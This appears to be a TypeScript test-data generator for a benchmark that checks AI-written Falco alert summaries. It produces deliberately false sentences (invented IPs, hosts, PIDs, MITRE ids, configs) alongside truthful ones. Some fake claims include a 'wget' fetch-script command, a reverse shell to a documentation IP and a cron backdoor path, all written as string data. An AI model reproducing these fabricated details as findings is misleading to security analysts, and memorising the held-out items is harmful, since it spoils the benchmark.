import { type AlertView, formatTime, pick } from './checker-alert-view.js';
import type { Corruption, ErrorClass } from './checker-corruptions.js';

/**
 * Held-out phrasings: written after the checker reached its targets on the development
 * phrasings (checker-corruptions.ts, checker-truthful-reports.ts) and never used to tune it.
 * They stand for wording the checker's author did not anticipate; the benchmark reports them in
 * their own rows so the development numbers cannot hide overfitting.
 */

type Random = () => number;

const IPS = ['203.0.113.99', '198.51.100.61'];
const PATHS = ['/opt/.cache/dbus-helper', '/var/lib/docker/tmp/x.bin'];
const HOSTS = ['web-prod-12', 'ip-172-31-9-4.eu-west-1.compute.internal'];
const PROGRAMS = ['ncat', 'python2', 'kthreaddx'];

export const heldOutCorruption = (
  view: AlertView,
  random: Random,
  errorClass: ErrorClass,
): Corruption | undefined => {
  const make = (markdown: string, value: string | undefined): Corruption => ({ errorClass, markdown, value });
  const priority = view.table.alert.priority;
  const high = ['Emergency', 'Alert', 'Critical', 'Error'].includes(priority);
  switch (errorClass) {
    case 'wrong value': {
      const name = view.field('proc.name');
      if (!name) return undefined;
      const value = pick(
        random,
        PROGRAMS.filter((program) => !view.holds(program)),
      );
      return make(
        pick(random, [
          `The malicious executable, \`${value}\`, was run by the attacker.`,
          `A suspicious \`${value}\` process was observed.`,
          `The alert relates to the execution of ${value}.`,
        ]),
        value,
      );
    }
    case 'role swap': {
      const tty = view.field('proc.tty');
      const loginuid = view.field('user.loginuid');
      if (tty && tty !== '0')
        return make(
          pick(random, [
            `The PPID of ${tty} suggests an interactive parent.`,
            `The process with PID ${tty} is suspicious.`,
          ]),
          tty,
        );
      const trueOfRoot = loginuid === '0' && view.role('user') === 'root';
      if (loginuid && loginuid !== view.field('user.uid') && !trueOfRoot) {
        return make(`The user had a UID of ${loginuid}.`, loginuid);
      }
      return undefined;
    }
    case 'fabricated id':
      if (view.field('proc.pid')) return undefined;
      return make(
        pick(random, ['PID: 2871', 'It ran with a process identifier of 2871.', 'The process ID is 2871.']),
        '2871',
      );
    case 'wrong host': {
      const value = pick(random, HOSTS);
      return make(
        pick(random, [
          `Affected host: ${value}`,
          `The alert originated from ${value}.`,
          `This was observed on server \`${value}\`.`,
        ]),
        value,
      );
    }
    case 'wrong time': {
      if (!view.time) return undefined;
      const shifted = new Date(view.time.getTime() - 3 * 3600_000);
      return make(
        pick(random, [
          `Timestamp: ${formatTime(shifted, 0)}`,
          `The alert was triggered on ${formatTime(shifted, 3)}.`,
        ]),
        undefined,
      );
    }
    case 'wrong severity':
      return make(
        high
          ? pick(random, ['This is a low-priority alert.', 'Severity: Low'])
          : pick(random, ['Severity: High', 'The alert is rated Critical by Falco.']),
        undefined,
      );
    case 'invented path': {
      const value = pick(random, PATHS);
      return make(pick(random, [`The malware was dropped in \`${value}\`.`, `It modified ${value}.`]), value);
    }
    case 'invented IP': {
      const value = pick(random, IPS);
      return make(
        pick(random, [
          `The process was communicating with ${value}.`,
          `The remote host ${value} received the data.`,
        ]),
        value,
      );
    }
    case 'invented port':
      return make(
        pick(random, ['It listened on 4443/tcp.', 'Data left the host over port 2222.']),
        undefined,
      );
    case 'wrong MITRE id':
      if (view.holds('T1036')) return undefined;
      return make(pick(random, ['Technique: T1036 (Masquerading)', 'This matches MITRE T1036.']), 'T1036');
    case 'product-name typo':
      return make(
        pick(random, [
          'Refer to the Falcon documentation for tuning.',
          "Falco's sister project Falcon can block this.",
        ]),
        undefined,
      );
    case 'invented config':
      return make(
        pick(random, [
          'Falco rule to add:\n\n```yaml\n- rule: Block memfd\n  condition: syscall.name = memfd_create\n  action: block\n  priority: CRITICAL\n  desc: x\n  output: y\n```',
          'In `falco.yaml`:\n\n```yaml\nalerts:\n  memfd: true\noutput_format: json\n```',
        ]),
        undefined,
      );
    case 'missing field (k8s)':
      if (view.table.facts.some((fact) => /^(k8s|ka)\./.test(fact.field))) return undefined;
      if (/k8s|kubernetes/i.test(`${view.table.alert.rule} ${view.table.rule?.desc ?? ''}`)) return undefined;
      return make(
        pick(random, ['Kubernetes namespace: default', 'The affected pod is part of a larger deployment.']),
        undefined,
      );
  }
};

/** Truthful held-out sentences: true of the alert, worded in ways the development set does not use. */
export const heldOutTruthful = (view: AlertView, random: Random): string[] => {
  const sentences: string[] = [];
  const alert = view.table.alert;
  const name = view.field('proc.name');
  const parent = view.field('proc.pname');
  const user = view.role('user');
  if (name)
    sentences.push(
      pick(random, [`The process name reported by Falco is \`${name}\`.`, `Process: \`${name}\``]),
    );
  if (parent) sentences.push(pick(random, [`It is a child of \`${parent}\`.`, `Parent: \`${parent}\``]));
  if (user) sentences.push(pick(random, [`Executed under the \`${user}\` account.`, `User: \`${user}\``]));
  if (alert.hostname)
    sentences.push(pick(random, [`Affected host: \`${alert.hostname}\``, `Observed on ${alert.hostname}.`]));
  sentences.push(pick(random, [`Priority: ${alert.priority}`, `Falco rated this alert ${alert.priority}.`]));
  if (view.time) sentences.push(`Timestamp: ${formatTime(view.time, 0)}`);
  sentences.push(
    pick(random, [
      'Respond within the next 4 hours, as required by most incident response policies.',
      'Version 2 of the runbook covers this case in section 3.1.',
      'A response in under 15 minutes limits the blast radius.',
    ]),
  );
  return sentences;
};

/**
 * Round 2, written after round 1 had been used to find and fix gaps: the only rows that still
 * measure phrasing the checker was not shaped by.
 */
export const heldOutCorruptionRound2 = (
  view: AlertView,
  random: Random,
  errorClass: ErrorClass,
): Corruption | undefined => {
  const make = (markdown: string, value: string | undefined): Corruption => ({ errorClass, markdown, value });
  const priority = view.table.alert.priority;
  switch (errorClass) {
    case 'wrong value': {
      const options: Corruption[] = [];
      if (view.field('proc.cmdline') && !view.holds('wget -qO- http')) {
        options.push(
          make(
            'The command `wget -qO- http://example.invalid/a.sh` was observed in the process arguments.',
            undefined,
          ),
        );
      }
      if (view.field('proc.name') && !view.holds('minerd'))
        options.push(make('The binary name was `minerd`.', 'minerd'));
      if (view.field('container.image.repository') && !view.holds('busybox:1.36')) {
        options.push(make('Image in use: `busybox:1.36`', 'busybox:1.36'));
      }
      return options.length === 0 ? undefined : pick(random, options);
    }
    case 'role swap': {
      const tty = view.field('proc.tty');
      const uid = view.field('user.uid');
      const loginuid = view.field('user.loginuid');
      if (tty && tty !== '0' && !view.field('proc.pid'))
        return make(`${tty} is the PID of the malicious process.`, tty);
      if (uid && loginuid && uid !== loginuid) return make(`The audit UID (loginuid) was ${uid}.`, uid);
      return undefined;
    }
    case 'fabricated id':
      if (view.field('proc.pid') || view.holds('31337')) return undefined;
      return make('The suspicious process (PID 31337) should be killed immediately.', '31337');
    case 'wrong host':
      if (view.holds('edge-gw-5')) return undefined;
      return make(
        pick(random, ['Host name: edge-gw-5', 'The `edge-gw-5` node raised this alert.']),
        'edge-gw-5',
      );
    case 'wrong time': {
      if (!view.time) return undefined;
      const wrong = new Date(view.time.getTime() + 2 * 3600_000);
      // The local clock of UTC+02:00 written as if it were UTC.
      return make(`Detected at ${formatTime(wrong, 0)}.`, undefined);
    }
    case 'wrong severity': {
      const word = priority === 'Notice' ? 'ERROR' : 'NOTICE';
      return make(`Falco priority: ${word}`, word);
    }
    case 'invented path':
      return make('The attacker created a cron job at /etc/cron.d/backdoor.', '/etc/cron.d/backdoor');
    case 'invented IP':
      return make('A reverse shell was opened to 192.0.2.200:9001.', '192.0.2.200');
    case 'invented port':
      return make(
        pick(random, ['It used port number 5555 for the callback.', 'The implant beaconed over TCP/8081.']),
        undefined,
      );
    case 'wrong MITRE id':
      if (view.holds('T1027')) return undefined;
      return make('MITRE technique T1027 (Obfuscated Files or Information) applies here.', 'T1027');
    case 'product-name typo':
      return make("Falcon's rule engine matched the system call.", undefined);
    case 'invented config':
      return make(
        pick(random, [
          'A Falco macro for this:\n\n```yaml\n- macro: memfd_exec\n  condition: evt.type = execve and proc.exe_path startswith memfd\n```',
          'Allow-list it in Falco:\n\n```yaml\n- list: allowed_procs\n  values: [python3]\n```',
        ]),
        undefined,
      );
    case 'missing field (k8s)':
      if (view.table.facts.some((fact) => /^(k8s|ka)\./.test(fact.field))) return undefined;
      if (/k8s|kubernetes/i.test(`${view.table.alert.rule} ${view.table.rule?.desc ?? ''}`)) return undefined;
      return make('The deployment `api` in the `prod` namespace triggered the alert.', undefined);
  }
};

/** Round 2 truthful sentences: model flourishes that mention numbers, versions, paths and zones. */
export const heldOutTruthfulRound2 = (view: AlertView, random: Random): string[] => {
  const sentences = [
    'Falco is an open-source runtime security tool originally created by Sysdig.',
    'Since Falco 0.35, rules can be tuned with exceptions instead of edits.',
    'Review the process tree (parent → child) for anomalies.',
    'Check /etc/passwd and /etc/shadow for unauthorized changes.',
    'Upgrade the kernel to 5.15 or later if it is older.',
  ];
  if (view.role('user') === 'root') sentences.push('The process ran as root (UID 0).');
  if (view.time) {
    const local = new Date(view.time.getTime() + 2 * 3600_000);
    const clock = local.toISOString().slice(0, 19);
    sentences.push(`In UTC+02:00 local time that is ${clock}+02:00.`);
  }
  const eventType = view.field('evt.type');
  if (eventType) sentences.push(`The event was captured via the ${eventType} syscall.`);
  return [pick(random, sentences), ...sentences.filter(() => random() < 0.6)];
};

/**
 * Round 3, written after rounds 1 and 2 had been used to fix the checker, in the long-winded
 * style of small instruction-tuned models.
 */
export const heldOutCorruptionRound3 = (
  view: AlertView,
  random: Random,
  errorClass: ErrorClass,
): Corruption | undefined => {
  const make = (markdown: string, value: string | undefined): Corruption => ({ errorClass, markdown, value });
  const priority = view.table.alert.priority;
  switch (errorClass) {
    case 'wrong value': {
      const options: Corruption[] = [];
      const uid = view.field('user.uid');
      if (view.role('user') && !view.holds('deploy-bot')) {
        options.push(
          make(`The user \`deploy-bot\`${uid ? ` (UID: ${uid})` : ''} ran the command.`, 'deploy-bot'),
        );
      }
      const repository = view.field('container.image.repository');
      if (repository && !view.holds(`${repository}:9.9.9`)) {
        options.push(make(`Container details: image \`${repository}:9.9.9\`.`, `${repository}:9.9.9`));
      }
      if (view.field('container.name') && !view.holds('evil-box')) {
        options.push(make('Container details: name `evil-box`.', 'evil-box'));
      }
      return options.length === 0 ? undefined : pick(random, options);
    }
    case 'role swap': {
      const name = view.field('proc.name');
      const parent = view.field('proc.pname');
      const cmdline = view.field('proc.cmdline');
      if (name && parent && cmdline && name !== parent) {
        return make(`The process \`${parent}\` ran the command line \`${cmdline}\`.`, parent);
      }
      return undefined;
    }
    case 'fabricated id':
      return make(
        pick(random, ['The event ID is 8812345.', 'Falco assigned this event the sequence number 8812345.']),
        '8812345',
      );
    case 'wrong host':
      if (view.holds('edge-proxy-2')) return undefined;
      return make(
        'Falco, the cloud-native runtime security project, detected suspicious activity on `edge-proxy-2`.',
        'edge-proxy-2',
      );
    case 'wrong time': {
      if (!view.time) return undefined;
      const shifted = new Date(view.time.getTime() - 86_400_000);
      return make(
        `At ${formatTime(shifted, 0)}, the rule **${view.table.alert.rule}** was triggered.`,
        undefined,
      );
    }
    case 'wrong severity': {
      const word = ['Emergency', 'Alert', 'Critical', 'Error'].includes(priority)
        ? 'Informational'
        : 'Emergency';
      return make(`This event is categorized as ${word} priority by Falco.`, word);
    }
    case 'invented path':
      return make('The binary was copied to `/usr/bin/.sshd` for persistence.', '/usr/bin/.sshd');
    case 'invented IP':
      return make('A DNS lookup for c2.example.com resolved to 203.0.113.200.', '203.0.113.200');
    case 'invented port':
      return make('The process bound a listener on 0.0.0.0:5555.', '5555');
    case 'wrong MITRE id':
      if (view.holds('T1055')) return undefined;
      return make('According to MITRE ATT&CK, this corresponds to T1055 (Process Injection).', 'T1055');
    case 'product-name typo':
      return make(
        pick(random, [
          'Falcon Sidekick can forward this alert to Slack.',
          'Falco (formerly Sysdig Falcon) raised the alert.',
        ]),
        undefined,
      );
    case 'invented config':
      return make(
        pick(random, [
          'Harden the rule like this:\n\n```yaml\n- rule: memfd exec\n  desc: x\n  condition: evt.type = memfd_create and proc.name != python3\n  output: memfd (%proc.name)\n  priority: critical\n  tags: [T1620]\n  action: kill\n```',
          'Point Falco at a custom file:\n\n```yaml\nfalco:\n  rules_file: /etc/falco/custom.yaml\n```',
        ]),
        undefined,
      );
    case 'missing field (k8s)':
      if (view.table.facts.some((fact) => /^(k8s|ka)\./.test(fact.field))) return undefined;
      if (/k8s|kubernetes/i.test(`${view.table.alert.rule} ${view.table.rule?.desc ?? ''}`)) return undefined;
      return make('The compromised pod belongs to the `payments` namespace.', undefined);
  }
};

/** Round 3 truthful sentences, in the same long-winded style. */
export const heldOutTruthfulRound3 = (view: AlertView, random: Random): string[] => {
  const alert = view.table.alert;
  const sentences: string[] = [];
  if (alert.hostname) {
    sentences.push(
      `Falco, the cloud-native runtime security project, detected suspicious activity on \`${alert.hostname}\`.`,
    );
  }
  if (view.time) sentences.push(`At ${formatTime(view.time, 0)}, the rule **${alert.rule}** was triggered.`);
  const name = view.field('proc.name');
  const cmdline = view.field('proc.cmdline');
  const eventType = view.field('evt.type');
  if (name && cmdline && eventType) {
    sentences.push(
      `The \`${eventType}\` system call was made by the process \`${name}\` (command line: \`${cmdline}\`).`,
    );
  }
  const parent = view.field('proc.pname');
  if (parent) sentences.push(`The parent of this process, \`${parent}\`, deserves a closer look.`);
  sentences.push(`This event is categorized as ${alert.priority} priority by Falco.`);
  const user = view.role('user');
  const uid = view.field('user.uid');
  if (user) sentences.push(`The user \`${user}\`${uid ? ` (UID: ${uid})` : ''} ran the command.`);
  const containerName = view.field('container.name');
  const containerId = view.field('container.id');
  if (containerName && containerId && containerId !== 'host') {
    sentences.push(`Container details: name \`${containerName}\`, ID \`${containerId}\`.`);
  }
  for (const technique of view.table.mitre) {
    if (technique.name) {
      sentences.push(`According to MITRE ATT&CK, this corresponds to ${technique.id} (${technique.name}).`);
    }
  }
  sentences.push(
    ...[
      'Investigate the host for 24-48 hours of prior activity.',
      'Use `falcoctl` to keep the rules up to date.',
      '**Contain**: isolate the affected workload first.',
      'If you use Falcosidekick, forward this alert to your chat channel.',
      'Memory-backed execution leaves no file on disk, so collect volatile evidence first.',
    ].filter(() => random() < 0.7),
  );
  return sentences;
};
